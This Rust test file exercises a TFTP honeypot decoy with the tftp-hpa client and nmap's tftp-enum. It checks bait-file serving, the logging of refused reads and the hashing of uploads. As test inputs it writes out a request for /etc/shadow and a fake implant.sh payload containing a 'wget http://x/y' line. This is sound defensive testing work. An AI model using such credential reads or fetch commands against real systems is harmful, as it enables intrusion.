//! The TFTP decoy against tftp-hpa's `tftp` client (reads in both modes, a missing file,
//! a write) and nmap's `tftp-enum`.

#![allow(clippy::unwrap_used, clippy::expect_used)] // Tests fail loudly by design.

mod common;

use std::process::Command;

use common::{Decoy, assert_schema, client, loopback, text};
use sha2::{Digest, Sha256};

/// Runs tftp-hpa's client in `dir` with `command`; what it printed.
fn tftp(decoy: &Decoy, dir: &std::path::Path, mode: &str, command: &str) -> String {
    let out = Command::new("timeout")
        .args(["30", "tftp", "-m", mode, &decoy.addr.ip().to_string(), &decoy.addr.port().to_string(), "-c"])
        .args(command.split(' '))
        .current_dir(dir)
        .output()
        .expect("tftp (tftp-hpa, installed by scripts/test-deps.sh)");
    text(&out)
}

#[test]
fn tftp_reads_bait_files_is_refused_unknown_ones_and_its_uploads_are_recorded() {
    let mut decoy = Decoy::start("tftp", &format!("{}:0", loopback()), None, &[]);
    let dir = tempfile::tempdir().unwrap();

    // A switch backup in octet mode, then the PXE menu in netascii (the client's default).
    let out = tftp(&decoy, dir.path(), "octet", "get startup-config");
    let config = std::fs::read_to_string(dir.path().join("startup-config")).unwrap_or_else(|e| panic!("{e}: {out}"));
    assert!(config.contains("hostname core-sw") && config.contains("enable secret 5 $1$"), "{config}");
    assert!(config.len() > 512, "more than one block: {}", config.len());
    let request = decoy.wait_kind("command", |e| e["command"] == "RRQ startup-config");
    assert_schema(&request, "tftp");
    assert_eq!(
        (request["details"]["mode"].as_str(), request["details"]["outcome"].as_str()),
        (Some("octet"), Some("found"))
    );
    let download = decoy.wait_kind("file_download", |e| e["details"]["path"] == "startup-config");
    assert_eq!(download["details"]["complete"], true);
    assert_eq!(download["details"]["bytes"], config.len());

    let out = tftp(&decoy, dir.path(), "netascii", "get pxelinux.cfg/default pxe");
    let pxe = std::fs::read_to_string(dir.path().join("pxe")).unwrap_or_else(|e| panic!("{e}: {out}"));
    assert!(pxe.starts_with("DEFAULT menu.c32\nPROMPT 0\n"), "netascii back to LF: {pxe}");

    // A file that is not there.
    let out = tftp(&decoy, dir.path(), "octet", "get /etc/shadow shadow");
    assert!(out.contains("Error code 1: File not found"), "{out}");
    let missing = decoy.wait_kind("command", |e| e["details"]["filename"] == "/etc/shadow");
    assert_eq!(missing["details"]["outcome"], "not_found");

    // An upload of three blocks and a bit: acknowledged, hashed, never stored.
    let payload: Vec<u8> = (0..1700u32).map(|i| b"#!/bin/sh\nwget http://x/y\n"[(i % 26) as usize]).collect();
    std::fs::write(dir.path().join("implant.sh"), &payload).unwrap();
    let out = tftp(&decoy, dir.path(), "octet", "put implant.sh firmware.bin");
    assert!(!out.contains("Error"), "{out}");
    let upload = decoy.wait_kind("file_upload", |e| e["details"]["path"] == "firmware.bin");
    assert_eq!(upload["details"]["bytes"], 1700);
    assert_eq!(upload["details"]["complete"], true);
    let sha: String = Sha256::digest(&payload).iter().map(|b| format!("{b:02x}")).collect();
    assert_eq!(upload["details"]["sha256"], sha);
    assert!(upload["details"]["excerpt"].as_str().unwrap().starts_with("#!/bin/sh"));
    decoy.wait_kind("command", |e| e["command"] == "WRQ firmware.bin" && e["details"]["outcome"] == "accepted");
}

#[test]
fn nmap_tftp_enum_finds_the_bait_files() {
    let mut decoy = Decoy::start("tftp", &format!("{}:69", loopback()), None, &[]);
    let scan = text(&client(
        "nmap",
        // No -sV: tftpd-hpa answers from a new port, so nmap's probes never see an answer
        // (a real one too shows as open|filtered); tftp-enum listens where the answer goes.
        &["-sU", "-Pn", "-n", "-p", "69", "--script", "tftp-enum", &decoy.addr.ip().to_string()],
        None,
    ));
    assert!(scan.contains("69/udp open  tftp"), "{scan}");
    assert!(scan.contains("startup-config") && scan.contains("pxelinux.cfg/default"), "{scan}");
    decoy.wait_kind("command", |e| e["details"]["filename"] == "pxelinux.cfg/default");
    // nmap's DNS status request provokes nothing but a record.
    decoy.wait_kind("protocol_error", |_| true);
}
